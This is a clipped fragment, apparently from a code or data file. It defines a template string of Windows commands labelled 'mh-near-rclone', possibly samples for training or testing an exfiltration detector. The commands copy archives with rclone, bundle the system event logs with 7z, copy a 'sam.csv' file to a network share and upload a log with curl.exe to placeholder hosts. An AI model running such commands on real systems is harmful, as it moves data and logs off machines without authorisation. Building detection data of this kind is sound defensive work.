mh-near-rclone cmd: «rclone copy ‹dir›\system-report.zip remote:‹project›¦7z a ‹dir›\security-logs.7z C:\Windows\System32\winevt\Logs¦copy D:\samples\sam.csv \\‹server›\‹project›\¦curl.exe -T ‹dir›\system.log https://‹host›.‹fqdn›/»
"""
)
